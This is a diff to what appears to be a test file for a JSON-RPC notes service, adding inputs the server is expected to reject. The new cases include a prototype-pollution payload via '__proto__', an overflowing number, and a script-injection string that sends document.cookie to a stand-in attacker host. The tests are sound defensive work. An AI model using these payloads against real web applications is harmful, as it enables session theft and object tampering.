@@ -34,6 +34,21 @@ const refused = abuses({
     [call("notes.search", { text: "door", sort: "title" })],
   ],
   "parameters in a list": ["messageSchema.mismatch", 4522, [call("notes.search", ["door"])]],
+  "a name that reaches the prototype": [
+    "threat.hygiene",
+    4522,
+    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":"a","__proto__":{"sort":"title"}}}'],
+  ],
+  "a number that no double holds": [
+    "threat.hygiene",
+    4522,
+    ['{"jsonrpc":"2.0","id":1,"method":"notes.search","params":{"text":1e999}}'],
+  ],
+  "script in a text": [
+    "threat.signature",
+    4522,
+    [call("notes.search", { text: "<script>fetch('//evil.example/' + document.cookie)</script>" })],
+  ],
   "a batch of a thousand": [
     "dialect.limit",
     4522,
